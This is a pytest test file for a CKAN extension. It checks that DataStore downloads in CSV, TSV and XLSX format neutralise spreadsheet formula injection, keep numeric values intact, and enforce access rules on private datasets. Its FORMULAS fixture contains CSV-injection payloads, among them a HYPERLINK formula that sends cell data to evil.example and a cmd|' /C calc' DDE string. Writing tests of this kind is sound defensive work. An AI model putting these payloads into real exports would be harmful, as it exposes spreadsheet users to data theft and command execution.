"""DataStore downloads (/datastore/dump/<id> as CSV, TSV and XLSX) are safe
to open in a spreadsheet program: a text cell that would run as a formula
(OWASP "CSV injection") is neutralised on the way out, while the stored data
stay exact and numbers, negative ones included, are untouched.

The table is written by the OPD's editor through the Action API; the
downloads are fetched over HTTP as anonymous and opened with the csv module
and openpyxl."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import openpyxl
import pytest
from auth_matrix import ROLES, AuthRoles, allowed_roles
from ckan.plugins import toolkit as tk
from ckan.tests import factories
from openpyxl.cell.cell import Cell

from ckanext.satudata import exports
from ckanext.satudata.downloads import datastore_dump

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")

# Each would run in Excel or LibreOffice (the last two after the tab/CR).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Klik di sini")',
    "+62 812 5555 0101",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(B2:B9)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Tanah Grogot", "Long Ikis", "a=b", "64.01.04"]
FIELDS = [
    {"id": "nama_wilayah", "type": "text"},
    {"id": "jumlah", "type": "int"},
    {"id": "perubahan", "type": "numeric"},
]


def _records() -> list[dict[str, Any]]:
    names = FORMULAS + PLAIN
    return [
        {"nama_wilayah": name, "jumlah": 1000 + index * 7 - 5000 * (index % 2), "perubahan": -12.5}
        for index, name in enumerate(names)
    ]


@pytest.fixture
def table(app: Any, auth_roles: AuthRoles) -> dict[str, Any]:
    """A DataStore table of the producer's public dataset, written by its editor."""
    token = factories.APIToken(user=auth_roles.name("producer"))["token"]
    dataset = auth_roles.dataset()
    created = app.post(
        "/api/action/datastore_create",
        json={
            "resource": {"package_id": dataset["id"], "name": "Perubahan penduduk"},
            "fields": FIELDS,
            "records": _records(),
        },
        headers={"Authorization": token},
    ).json["result"]
    return {"id": created["resource_id"], "package_id": dataset["id"]}


def _dump(app: Any, resource_id: str, status: int = 200, **params: Any) -> Any:
    return app.get(f"/datastore/dump/{resource_id}", query_string=params, status=status)


def _assert_safe(cells: list[Any]) -> None:
    for cell in cells:
        assert not exports.is_formula_like(cell), repr(cell)


def test_text_downloads_neutralise_formulas_and_keep_numbers(
    app: Any, table: dict[str, Any]
) -> None:
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        text = _dump(app, table["id"], format=fmt, bom="true").data.decode("utf-8")
        assert text.startswith("\ufeff")  # bom=true still honoured
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))
        assert rows[0] == ["_id", "nama_wilayah", "jumlah", "perubahan"]
        body = rows[1:]
        _assert_safe([cell for row in body for cell in row])
        assert [row[1] for row in body] == ["'" + f for f in FORMULAS] + PLAIN
        assert [int(row[2]) for row in body] == [r["jumlah"] for r in _records()]
        assert {row[3] for row in body} == {"-12.5"}
        assert any(int(row[2]) < 0 for row in body)
    # The stored data stay exact.
    found = app.get(
        "/api/action/datastore_search", query_string={"resource_id": table["id"], "limit": 100}
    ).json["result"]["records"]
    assert [r["nama_wilayah"] for r in found] == FORMULAS + PLAIN


def _workbook_rows(data: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows()]
    assert all(cell.data_type != "f" for row in rows for cell in row)  # no formula cell
    for row in rows:
        for cell in row:
            if isinstance(cell, Cell) and isinstance(cell.value, str):
                cell.value = _ooxml_text(cell.value)
    return rows


def _ooxml_text(value: str) -> str:
    """A worksheet string as Excel shows it: OOXML writes a carriage return
    (which XML would turn into a line feed) as _x000D_; openpyxl leaves it so."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def test_xlsx_download_is_a_real_workbook(app: Any, table: dict[str, Any]) -> None:
    page = app.get(f"/dataset/{table['package_id']}/resource/{table['id']}").body
    assert f"/datastore/dump/{table['id']}?format=xlsx" in page  # offered on the resource page
    response = _dump(app, table["id"], format="xlsx")
    assert response.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert f'filename="{table["id"]}.xlsx"' in response.headers["Content-Disposition"]
    cells = _workbook_rows(response.data)
    assert [c.value for c in cells[0]] == ["_id", "nama_wilayah", "jumlah", "perubahan"]
    body = cells[1:]
    _assert_safe([cell.value for row in body for cell in row])
    assert [row[1].value for row in body] == ["'" + f for f in FORMULAS] + PLAIN
    assert [row[2].value for row in body] == [r["jumlah"] for r in _records()]  # numbers
    assert all(row[3].data_type == "n" and row[3].value == -12.5 for row in body)
    assert [row[0].value for row in body] == list(range(1, len(body) + 1))

    # The data table's filtered download sends filters, q, sort and fields.
    filtered = _dump(
        app,
        table["id"],
        format="xlsx",
        filters=json.dumps({"nama_wilayah": "Long Ikis"}),
        fields="nama_wilayah,jumlah",
    )
    long_ikis = next(r["jumlah"] for r in _records() if r["nama_wilayah"] == "Long Ikis")
    assert [[c.value for c in row] for row in _workbook_rows(filtered.data)] == [
        ["nama_wilayah", "jumlah"],
        ["Long Ikis", long_ikis],
    ]


def test_bad_dump_parameters_are_a_400_naming_them(
    app: Any, table: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    for params, named in (
        ({"format": "xlsx", "limit": "banyak"}, "limit"),
        ({"format": "csv", "offset": "-"}, "offset"),
        ({"format": "docx"}, "docx"),
    ):
        response = _dump(app, table["id"], status=400, **params)
        assert named in response.data.decode(), params
    # A selection over the XLSX cap points to the CSV download (which streams).
    monkeypatch.setitem(tk.config, "ckanext.satudata.exports.xlsx_max_cells", 20)
    refused = _dump(app, table["id"], status=400, format="xlsx").body
    assert "10 baris dan 4 kolom" in refused and "CSV" in refused
    assert _dump(app, table["id"], format="xlsx", limit=5).status_code == 200  # 5 x 4 cells


def test_workbook_cells_are_typed_and_text_is_never_a_formula() -> None:
    """Values a worksheet cannot hold as they are (control characters, text
    over 32,767 characters, NaN) still give a workbook that opens."""
    out = io.BytesIO()
    records = iter(
        [
            ["kode", "catatan", "nilai"],
            ["1", "=1+1\x01\x0b", "NaN"],
            ["2", "x" * 40_000, "-0.5"],
            ["", "", ""],
            ["4", "Kuaro", "3"],
        ]
    )
    types = {"kode": "int4", "catatan": "text", "nilai": "numeric"}
    datastore_dump.write_workbook(out, records, types, neutralise=False)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert rows[1][0] == (1, "n") and rows[1][2] == ("NaN", "s")
    assert rows[1][1][1] == "s" and str(rows[1][1][0]).startswith("=1+1")
    assert rows[2][2] == (-0.5, "n") and len(str(rows[2][1][0])) == 32_767
    assert [value for value, _ in rows[3]] == [None, None, None]
    assert [value for value, _ in rows[4]] == [4, "Kuaro", 3]


@pytest.mark.ckan_config("ckanext.satudata.exports.neutralise_formulas", "false")
def test_neutralising_can_be_switched_off(app: Any, table: dict[str, Any]) -> None:
    rows = list(csv.reader(io.StringIO(_dump(app, table["id"], format="csv").data.decode())))
    assert [row[1] for row in rows[1:]] == FORMULAS + PLAIN
    cells = _workbook_rows(_dump(app, table["id"], format="xlsx").data)  # text, not formulas
    assert [row[1].value for row in cells[1:]] == FORMULAS + PLAIN


def test_who_may_download_a_private_table(
    app: Any, auth_roles: AuthRoles, table: dict[str, Any]
) -> None:
    """Dumps follow datastore_search's auth: a private dataset's table is
    only for those who may see the dataset."""
    sysadmin = auth_roles.users["sysadmin"]
    assert sysadmin is not None
    app.post(
        "/api/action/package_patch",
        json={"id": table["package_id"], "private": True},
        headers={"Authorization": factories.APIToken(user=sysadmin["name"])["token"]},
    )
    allowed = allowed_roles(auth_roles, "datastore_search", {"resource_id": table["id"]})
    assert "anonymous" not in allowed and "other_producer" not in allowed
    assert "producer" in allowed
    tokens = {
        role: factories.APIToken(user=name)["token"]
        for role in ROLES
        if (name := auth_roles.name(role))
    }
    for fmt in ("csv", "xlsx"):
        for role in ROLES:
            headers = {"Authorization": tokens[role]} if role in tokens else {}
            response = app.get(
                f"/datastore/dump/{table['id']}", query_string={"format": fmt}, headers=headers
            )
            assert response.status_code == (200 if role in allowed else 404), (fmt, role)
